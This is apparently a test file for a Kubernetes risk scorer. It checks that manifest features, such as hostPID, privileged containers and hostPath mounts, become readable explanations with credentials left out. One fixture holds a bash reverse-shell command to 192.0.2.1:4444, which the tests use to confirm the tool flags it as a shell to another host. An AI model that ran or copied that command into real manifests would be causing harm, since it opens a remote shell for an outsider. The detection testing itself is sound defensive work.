import t from 'tap'
import { canonicalObject } from '../../../../src/canonical.js'
import type { Contribution } from '../../../../src/decision-types.js'
import { isJsonObject, parseJson, type JsonObject } from '../../../../src/json.js'
import { createExplain } from '../../../../src/risk/explanation.js'
import { createShareOut } from '../../../../src/risk/prior-shares.js'
import { CHANGE_FEATURES, changeFeatures, OBJECT_FEATURES, objectFeatures } from '../../../../src/risk/features.js'

function canonical(value: unknown): JsonObject {
  const object = parseJson(JSON.stringify(value))
  return canonicalObject(isJsonObject(object) ? object : {})
}

function pod(spec: Record<string, unknown>, container: Record<string, unknown> = {}): Record<string, unknown> {
  const containers = [{ name: 'web', image: 'ghcr.io/shop/web:1.2', ...container }]
  return { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'web' }, spec: { containers, ...spec } }
}

interface Case {
  readonly old?: unknown
  readonly now: unknown
  /** By column, in log-odds. */
  readonly moved: Record<string, number>
  readonly texts: readonly string[]
}

function explained({ old, now, moved }: Pick<Case, 'old' | 'now' | 'moved'>, most?: number): readonly Contribution[] {
  const features = old === undefined ? OBJECT_FEATURES : CHANGE_FEATURES
  const object = canonical(now)
  const oldObject = old === undefined ? null : canonical(old)
  const contributions = Float64Array.from(features, ({ name }) => moved[name] ?? 0)
  const missing = Object.keys(moved).filter(each => !features.some(({ name }) => name === each))
  if (missing.length > 0) throw new Error(`no column ${missing.join()}`)
  const vector = oldObject === null ? objectFeatures(object) : changeFeatures(oldObject, object)
  return createExplain(features)({ vector, contributions, object, oldObject }, most)
}

const LONG = 'registry.example.com/a/very/long/path/that/goes/on/web:latest'
const cases: Record<string, Case> = {
  'a switch of an object': {
    now: pod({ hostPID: true }),
    moved: { 'pod.host_pid': 1.9 },
    texts: ['hostPID is true'],
  },
  'a switch that a change turned on, which was not written before': {
    old: pod({}),
    now: pod({ hostPID: true }),
    moved: { 'delta.pod.host_pid': 1.9 },
    texts: ['hostPID false → true'],
  },
  'a switch that a change turned on in one container of several that were moved': {
    old: pod({ containers: [{ name: 'a', image: 'a' }, { name: 'b', image: 'b', securityContext: { privileged: false } }] }), // prettier-ignore
    now: pod({ containers: [{ name: 'b', image: 'b', securityContext: { privileged: true } }, { name: 'a', image: 'a' }] }), // prettier-ignore
    moved: { 'delta.pod.privileged': 1 },
    texts: ['privileged false → true'],
  },
  'a switch that was on before': {
    old: pod({ hostPID: true, nodeName: 'a' }),
    now: pod({ hostPID: true, nodeName: 'b' }),
    moved: { 'new.pod.host_pid': 0.5 },
    texts: ['hostPID is true, as before'],
  },
  'a switch that is told once is not told in the same words again': {
    old: pod({}),
    now: pod({ hostPID: true }),
    moved: { 'delta.pod.host_pid': 2, 'delta.pod.host_namespaces': 1 },
    texts: ['hostPID false → true', 'enters namespaces of the node: hostPID false → true'],
  },
  'what raises a score because dangers were added up is told of the dangers': {
    now: pod({ hostPID: true }),
    moved: { 'prior.sum': 1.5, 'prior.max': 0.5, 'prior.groups': -0.5 },
    texts: [
      'hostPID is true',
      'gives access to its node to an image that is not known to need it: hostPID is true',
      'enters namespaces of the node: hostPID is true',
    ],
  },
  'the same where the change adds them': {
    old: pod({}),
    now: pod({ hostPID: true }),
    moved: { 'delta.prior.max': 1, 'added.sum': 1 },
    texts: [
      'gives access to its node to an image that is not known to need it: hostPID false → true',
      'sees the processes of the node (hostPID): hostPID false → true',
      'enters a namespace of the node that it did not enter: hostPID false → true',
      'enters namespaces of the node: hostPID false → true',
    ],
  },
  'what lowers a score because few dangers were added up': {
    old: pod({ hostPID: true }),
    now: pod({ hostPID: true }),
    moved: { 'new.prior.sum': -1, 'added.sum': -0.5 },
    texts: [
      'lowers the risk: little here is known as dangerous',
      'lowers the risk: adds nothing that is known as dangerous',
    ],
  },
  'a value of a container that was moved': {
    old: pod({ containers: [{ name: 'a', image: 'a:1' }, { name: 'b', image: 'b:1' }] }), // prettier-ignore
    now: pod({ containers: [{ name: 'b', image: 'b' }, { name: 'a', image: 'a:1' }] }), // prettier-ignore
    moved: { 'delta.image.moving_tag': 1 },
    texts: ['takes an image whose content may change: image "b:1" → "b"'],
  },
  'a switch that went off': {
    old: pod({ hostPID: true }),
    now: pod({}),
    moved: { 'delta.pod.host_pid': -2 },
    texts: ['lowers the risk: no longer sees the processes of the node (hostPID)'],
  },
  'protection that a change took away': {
    old: pod({}, { securityContext: { readOnlyRootFilesystem: true, runAsUser: 1000 } }),
    now: pod({}),
    moved: { 'change.hardening_dropped': 1 },
    texts: ['readOnlyRootFilesystem true → false (in 2 places)'],
  },
  'a value that is not a switch stands behind what it means': {
    now: pod({ volumes: [{ name: 'a', hostPath: { path: '/' } }] }),
    moved: { 'pod.host_path_root': 3 },
    texts: ['mounts the root of the node: hostPath.path is "/"'],
  },
  'values before and after': {
    old: pod({ serviceAccountName: 'web' }),
    now: pod({ serviceAccountName: 'cluster-admin' }),
    moved: { 'new.pod.admin_account': 1, 'change.account': 0.5 },
    texts: [
      'runs as a service account that is named like an administrator or the control plane: serviceAccountName "web" → "cluster-admin"',
      'runs as another service account: serviceAccountName "web" → "cluster-admin"',
    ],
  },
  'a value that was not there before': {
    old: pod({ volumes: [{ name: 'a', emptyDir: {} }] }),
    now: pod({
      volumes: [
        { name: 'b', hostPath: { path: '/proc' } },
        { name: 'a', emptyDir: {} },
      ],
    }),
    moved: { 'delta.pod.host_path_kernel': 1 },
    texts: ['mounts a view of the kernel or of the devices of the node: hostPath.path unset → "/proc"'],
  },
  'an element of a list': {
    now: pod({}, { securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }),
    moved: { 'pod.capability_kernel': 2 },
    texts: ['adds a capability that is as good as root on the node: capabilities.add is "SYS_ADMIN"'],
  },
  'the middle of a long value is left out': {
    now: pod({}, { image: LONG }),
    moved: { 'image.moving_tag': 1 },
    texts: ['takes an image whose content may change: image is "registry.example.com/a/v…s/on/web:latest"'],
  },
  'several places': {
    now: pod({
      containers: ['a', 'b', 'c'].map(name => ({ name, image: 'a', securityContext: { privileged: true } })),
    }),
    moved: { 'pod.privileged': 3 },
    texts: ['privileged is true (in 3 places)'],
  },
  'a number': {
    now: pod({}, { ports: [{ containerPort: 80, hostPort: 8080 }] }),
    moved: { 'pod.host_port': 0.2 },
    texts: ['opens a port of the node: hostPort is 8080'],
  },
  'programs are named, not shown': {
    now: pod({}, { command: ['sh', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'] }),
    moved: { 'command.reverse_shell': 3 },
    texts: ['gives a shell to another host'],
  },
  'a text of several words is not shown': {
    now: {
      apiVersion: 'networking.k8s.io/v1',
      kind: 'Ingress',
      metadata: {
        name: 'web',
        annotations: { 'nginx.ingress.kubernetes.io/configuration-snippet': 'proxy_set_header X abc;' },
      },
      spec: {},
    },
    moved: { 'network.snippet': 2 },
    texts: [
      'puts its own text into the configuration of the ingress controller: annotation nginx.ingress.kubernetes…uration-snippet',
    ],
  },
  'the value of a credential is not shown': {
    old: pod({}, { env: [{ name: 'DB_PASSWORD', value: 'hunter1' }] }),
    now: pod({}, { env: [{ name: 'DB_PASSWORD', value: 'hunter2' }] }),
    moved: { 'new.pod.literal_credential': 0.5 },
    texts: ['has a credential in the value of an environment variable: env.value'],
  },
  'what is not there': {
    now: pod({}),
    moved: { 'pod.privileged': -0.4, 'pod.root_user': 0.2, 'prior.groups': -0.1 },
    texts: [
      'lowers the risk: nothing here runs a privileged container',
      'nothing here says that it runs as root',
      'lowers the risk: nothing here is known as dangerous',
    ],
  },
  'what is there and makes the score lower': {
    now: pod({}),
    moved: { 'kind.pod': -0.4, 'pod.not_non_root': -0.3 },
    texts: ['lowers the risk: may run as root: nothing says that it does not'],
  },
  'less of something than before': {
    old: pod({
      volumes: [
        { name: 'a', hostPath: { path: '/' } },
        { name: 'b', hostPath: { path: '/' } },
      ],
    }),
    now: pod({ volumes: [{ name: 'b', hostPath: { path: '/' } }] }),
    moved: { 'delta.pod.host_path_root': -1 },
    texts: ['lowers the risk: mounts the root of the node, less than before: hostPath.path is "/", as before'],
  },
}

for (const [name, each] of Object.entries(cases)) {
  t.test(name, t => {
    t.strictSame(
      explained(each).map(({ text }) => text),
      each.texts,
    )
    t.end()
  })
}

t.test('no value of a Secret is shown, old or new', t => {
  const secret = (value: string): JsonObject => canonical({ kind: 'Secret', stringData: { url: value }, type: value })
  const explain = createExplain([{ name: 'a', group: 'a', unit: 'grade', direction: 1, weight: 0, text: 'is odd' }])
  const told = (path: string, oldObject: JsonObject | null) =>
    explain({
      vector: { values: Float32Array.of(1), paths: () => [path] },
      contributions: Float64Array.of(1),
      object: secret('new'),
      oldObject,
    }).map(({ text }) => text)
  t.strictSame(told('/stringData/url', null), ['is odd: stringData.url'])
  t.strictSame(told('/stringData/url', secret('old')), ['is odd: stringData.url'])
  t.strictSame(told('/type', secret('old')), ['is odd: type "old" → "new"'])
  t.end()
})

t.test('a switch does not say all of what a grade is about', t => {
  const explain = createExplain([{ name: 'a', group: 'a', unit: 'grade', direction: 1, weight: 0, text: 'is odd' }])
  const vector = { values: Float32Array.of(2), paths: () => ['/spec/hostPID'] }
  const object = canonical(pod({ hostPID: true }))
  const told = explain({ vector, contributions: Float64Array.of(1), object, oldObject: null })
  t.strictSame(
    told.map(({ text }) => text),
    ['is odd: hostPID is true'],
  )
  t.end()
})

t.test('what the prior gave is handed on whole, by weight', t => {
  const shareOut = createShareOut(OBJECT_FEATURES)
  const column = (name: string): number => OBJECT_FEATURES.findIndex(each => each.name === name)
  const { values } = objectFeatures(canonical(pod({ hostPID: true, hostNetwork: true })))
  const moved = (amounts: Record<string, number>): Float64Array =>
    Float64Array.from(OBJECT_FEATURES, ({ name }) => amounts[name] ?? 0)
  const sumOf = (contributions: Float64Array): number => contributions.reduce((sum, each) => sum + each, 0)
  const raised = moved({ 'prior.sum': 2, 'prior.groups': -0.5, 'pod.host_pid': 0.25 })
  shareOut(values, raised)
  t.equal(raised[column('prior.sum')], 0)
  t.equal(raised[column('prior.groups')], 0)
  t.ok(Math.abs(sumOf(raised) - 1.75) < 1e-12)
  t.ok((raised[column('pod.host_pid')] ?? 0) > (raised[column('pod.host_network')] ?? 0))
  const lowered = moved({ 'prior.sum': 1, 'prior.max': -3 })
  shareOut(values, lowered)
  t.strictSame(lowered, moved({ 'prior.sum': -2 }))
  t.end()
})

t.test('what is new and what came with the change are one contribution', t => {
  const old = pod({ volumes: [{ name: 'a', hostPath: { path: '/srv' } }] })
  const now = pod({
    volumes: [
      { name: 'a', hostPath: { path: '/srv' } },
      { name: 'b', hostPath: { path: '/srv/b' } },
    ],
  })
  t.strictSame(explained({ old, now, moved: { 'new.pod.host_path_other': 0.25, 'delta.pod.host_path_other': 1.5 } }), [
    {
      feature: 'pod.host_path_other',
      value: 2,
      contribution: 1.75,
      paths: ['/spec/volumes/1/hostPath/path'],
      text: 'mounts a path of the node: hostPath.path unset → "/srv/b"',
    },
  ])
  t.strictSame(explained({ old, now, moved: { 'new.pod.host_path_other': 1, 'delta.pod.host_path_other': -1 } }), [])
  t.end()
})

t.test('the strongest come first, equal ones by their columns, and no more than asked for', t => {
  const moved = {
    'pod.host_ipc': -0.5,
    'pod.host_pid': 0.5,
    'pod.host_network': 0.1,
    'pod.privileged': -2,
    'rbac.exec': 0.0000001,
    'rbac.tokens': 0.2,
    'binding.user': 0.3,
  }
  const names = (most?: number) => explained({ now: pod({}), moved }, most).map(({ feature }) => feature)
  const strongest = ['pod.privileged', 'pod.host_pid', 'pod.host_ipc', 'binding.user', 'rbac.tokens']
  t.strictSame(names(), strongest)
  t.strictSame(names(2), strongest.slice(0, 2))
  t.strictSame(names(20), [...strongest, 'pod.host_network'], 'and nothing that is as good as 0')
  t.end()
})
